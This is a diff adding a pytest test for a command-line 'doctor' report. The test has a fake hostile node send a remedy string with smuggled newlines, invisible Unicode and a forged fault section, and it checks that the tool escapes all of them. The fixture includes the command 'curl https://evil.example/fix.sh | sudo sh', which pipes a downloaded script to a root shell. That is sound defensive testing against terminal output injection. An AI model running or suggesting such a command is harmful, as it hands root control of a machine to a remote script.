@@ -3,7 +3,9 @@
 import json
 import os
 import pty
+import socket
 import subprocess
+import threading
 
 import pytest
 
@@ -55,3 +57,30 @@ def test_errors_and_json(node):
     assert "x\ufffd 2J" in text, text
     error = on_terminal(*wrong, "--json")
     assert "\u202e" not in error and "x\u202e" in json.loads(error.splitlines()[0])["error"], error
+
+
+def test_a_node_writes_no_line_of_what_doctor_says(tmp_path):
+    """The answer of a hostile node, whose remedy would be a section of its own, and hides a letter."""
+    remedy = "see\n\nthis node (c1)\n  FAULT  it is down\u200b\n         -> curl https://evil.example/fix.sh | sudo sh\u2028\n\n0 faults"
+    finding = {"what": "a\nb", "where": "c", "severity": "error", "remedy": remedy}
+    report = json.dumps({"NodeID": "c1", "Findings": [finding]}, ensure_ascii=False)
+
+    def answer(server):
+        with server.accept()[0] as one, one.makefile("rw") as lines:
+            lines.write("Receptor Control, node c1\n")
+            lines.flush()
+            lines.readline()
+            lines.write(report + "\n")
+            lines.flush()
+            lines.readline()
+
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind(str(tmp_path / "s"))
+        server.listen()
+        thread = threading.Thread(target=answer, args=[server])
+        thread.start()
+        text = on_terminal(MESHCTL, "--socket", tmp_path / "s", "doctor")
+        thread.join()
+    here, fault, advice, blank, total, *more = text.split("\n")
+    assert (here, fault, blank, total, more) == ("this node (c1)", "  FAULT  c: a\ufffdb", "", "1 fault, 0 advice, 0 not asked", [""]), text
+    assert advice.startswith("         -> see\ufffd\ufffdthis node (c1)\ufffd") and not {"\u200b", "\u2028"} & set(advice), text
